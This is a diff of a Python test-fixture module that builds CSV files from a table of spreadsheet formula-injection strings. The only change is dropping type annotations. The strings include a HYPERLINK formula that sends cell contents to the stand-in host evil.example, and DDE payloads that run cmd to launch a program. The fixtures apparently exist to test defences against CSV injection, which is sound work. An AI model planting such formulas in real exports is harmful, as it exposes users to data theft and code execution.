@@ -1,11 +1,9 @@
 """Cells that a spreadsheet would run."""
 
-from __future__ import annotations
-
 from tests.hostile.corpus.file import File
 from tests.hostile.corpus.texts import table
 
-STRINGS: dict[str, str] = {
+STRINGS = {
     "a link": '=HYPERLINK("https://evil.example?x="&A1,"Prize") won',
     "a program": "=cmd|' /C calc'!A0",
     "a program after a plus": "+1+cmd|' /C calc'!A0 lost",
@@ -33,11 +31,11 @@ STRINGS: dict[str, str] = {
 }
 
 
-def one(text: str) -> bytes:
+def one(text):
     """A table in which the string stands in every column, the name of one included."""
     return table(
         [["headline", "publisher", text], [f"{text}", text, text], ["Bank raises rates", text, text]]
     )
 
 
-FILES: dict[str, File] = {name: File("a.csv", one(text), headlines=2) for name, text in STRINGS.items()}
+FILES = {name: File("a.csv", one(text), headlines=2) for name, text in STRINGS.items()}
